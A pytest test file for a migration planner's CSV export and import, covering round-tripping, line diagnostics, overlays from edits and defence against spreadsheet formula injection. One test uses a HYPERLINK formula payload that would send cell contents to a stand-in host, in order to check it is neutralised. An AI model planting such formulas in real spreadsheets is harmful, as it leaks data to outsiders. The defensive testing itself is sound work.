"""The spreadsheet: what goes out comes back the same, and nothing in it runs."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crossload.engines.planner.csv import escape, from_csv, overlays_from, to_csv, unescape
from crossload.engines.planner.merge import apply_overlays
from crossload.estate.asset import Asset, Inventory, Kind
from crossload.estate.migration import Overlay

TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=30)
FACT = st.one_of(st.none(), st.booleans(), st.integers(-(2**60), 2**60), TEXT, st.lists(TEXT, max_size=3))
FACTS = st.dictionaries(
    st.one_of(st.sampled_from(["size_bytes", "object_count", "model", "encryption", "versioning"]), TEXT),
    FACT,
    max_size=5,
)


@st.composite
def inventories(draw: st.DrawFn) -> Inventory:
    assets: dict[str, Asset] = {}
    for _ in range(draw(st.integers(0, 4))):
        kind = draw(st.sampled_from(list(Kind)))
        name = draw(TEXT)
        tags = draw(st.dictionaries(TEXT, TEXT, max_size=3))
        words = draw(st.dictionaries(st.sampled_from(["sensitivity", "uptime", "app", "owner"]), TEXT.filter(bool)))
        asset = Asset(f"{kind}:{name}", kind, draw(TEXT), draw(TEXT), draw(TEXT), draw(FACTS), tags, words)
        assets[asset.id] = asset
    return Inventory(tuple(sorted(assets.values(), key=lambda asset: asset.id)))


@given(inventories())
@settings(max_examples=300, deadline=None)
def test_every_inventory_comes_back_and_gives_the_same_csv(inventory: Inventory) -> None:
    text = to_csv(inventory)
    sheet = from_csv(text)
    assert sheet.diagnostics == ()
    assert sheet.assets == inventory.assets
    assert to_csv(Inventory(sheet.assets)) == text


@given(inventories())
@settings(max_examples=300, deadline=None)
def test_no_cell_is_a_formula(inventory: Inventory) -> None:
    for row in csv.reader(io.StringIO(to_csv(inventory).removeprefix("\ufeff"), newline="")):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


@given(TEXT)
def test_escaping_undoes_itself(text: str) -> None:
    assert unescape(escape(text)) == text


def test_a_formula_as_a_name_is_harmless_and_survives() -> None:
    name = '=HYPERLINK("http://x/?"&A1,"click")'
    inventory = Inventory((Asset(f"secret:{name}", Kind.SECRET, name, "p", "n"),))
    text = to_csv(inventory)
    assert "'=HYPERLINK(" in text and ",=HYPERLINK(" not in text
    assert from_csv(text).assets[0].name == name


def test_unknown_is_a_word_and_not_an_empty_cell(helpdesk_inventory: Inventory) -> None:
    blind = replace(helpdesk_inventory.assets[0], facts={"size_bytes": None})
    row = next(csv.DictReader(io.StringIO(to_csv(Inventory((blind,))).removeprefix("\ufeff"))))
    assert row["size_bytes"] == "unknown" and row["object_count"] == ""


@pytest.mark.parametrize("separator", [";", "\t"])
def test_what_a_spreadsheet_saves_is_read(helpdesk_inventory: Inventory, separator: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(helpdesk_inventory).removeprefix("\ufeff"), newline="")))
    order = list(reversed(range(len(rows[0]))))
    out = io.StringIO()
    csv.writer(out, delimiter=separator, lineterminator="\n").writerows([[row[i] for i in order] for row in rows])
    assert from_csv(out.getvalue()).assets == helpdesk_inventory.assets


def test_edits_become_overlays_that_give_the_same_inventory(helpdesk_inventory: Inventory) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(helpdesk_inventory).removeprefix("\ufeff"), newline="")))
    for row in rows:
        if row["id"] == "secret:token":
            row["owner"], row["uptime"] = "security", "tier1"
    out = io.StringIO()
    writer = csv.DictWriter(out, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    overlays, problems = overlays_from(from_csv(out.getvalue()), helpdesk_inventory)
    assert problems == []
    again, _ = apply_overlays(helpdesk_inventory, [Overlay.model_validate(item) for item in overlays])
    token, docs = again.get("secret:token"), again.get("dataset:docs")
    assert token is not None and token.overlay == {"owner": "security", "uptime": "tier1"}
    assert docs is not None and docs.overlay == {"sensitivity": "internal"}, "what was said before is still said"
    assert {asset.id for asset in again.assets} == {asset.id for asset in helpdesk_inventory.assets}


def test_an_edited_discovered_cell_is_told_and_not_believed(helpdesk_inventory: Inventory) -> None:
    text = to_csv(helpdesk_inventory).replace(",2000,", ",3,")
    overlays, problems = overlays_from(from_csv(text), helpdesk_inventory)
    assert [problem.code for problem in problems] == ["XL314"]
    assert "object_count" in problems[0].summary and problems[0].line > 1
    assert all("object_count" not in overlay["set"] for overlay in overlays)


def test_an_unknown_line_is_told(helpdesk_inventory: Inventory) -> None:
    more = Inventory((Asset("queue:ghost", Kind.QUEUE, "ghost", "old", "ghost", overlay={"app": "x"}),))
    _, problems = overlays_from(from_csv(to_csv(more)), helpdesk_inventory)
    assert [problem.code for problem in problems] == ["XL313"]


def test_all_bad_lines_are_told_with_their_line() -> None:
    text = "id,kind,name\nqueue:a,queue,a\nbucket:b,bucket,b\nqueue:a,queue,a\nsecret:c,queue,c\n"
    sheet = from_csv(text, "sheet.csv")
    assert [(p.code, p.line) for p in sheet.diagnostics] == [("XL311", 3), ("XL312", 4), ("XL311", 5)]
    assert [asset.id for asset in sheet.assets] == ["queue:a"]


def test_a_sheet_without_the_needed_columns_is_one_problem() -> None:
    sheet = from_csv("name,size\na,1\n")
    assert [problem.code for problem in sheet.diagnostics] == ["XL310"] and sheet.assets == ()
    assert from_csv("").diagnostics[0].code == "XL310"
